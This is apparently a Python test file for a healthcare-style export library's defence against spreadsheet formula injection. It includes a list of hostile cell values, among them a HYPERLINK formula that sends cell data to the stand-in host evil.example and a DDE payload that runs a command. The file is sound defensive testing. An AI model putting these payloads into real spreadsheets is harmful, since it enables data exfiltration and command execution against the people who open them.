"""The one rule every export uses against spreadsheet formula injection (`carecluster.spreadsheet`)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from carecluster.spreadsheet import _PLAIN_NUMBER, TRIGGERS, restore_cell, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_is_escaped(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert not safe_cell(value).startswith(TRIGGERS)


@pytest.mark.parametrize("value", ["Ann Smith", "", "-3", "-1.5", "+44", 7, -2.5, None, True])
def test_plain_text_and_numbers_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


@given(st.text())
def test_the_escape_round_trips_and_never_leaves_a_trigger(value: str) -> None:
    escaped = safe_cell(value)
    assert restore_cell(escaped) == value
    if value and value.startswith(TRIGGERS):
        assert escaped.startswith("'") or _PLAIN_NUMBER.match(value)


def test_xlsx_writes_formula_like_text_as_a_string_never_a_formula() -> None:
    from carecluster.reports.render import _sheet

    xml = _sheet([["=SUM(1+1)", "@x", 3]])
    assert '<c r="A1" t="inlineStr"><is><t xml:space="preserve">=SUM(1+1)</t></is></c>' in xml
    assert "<f>" not in xml
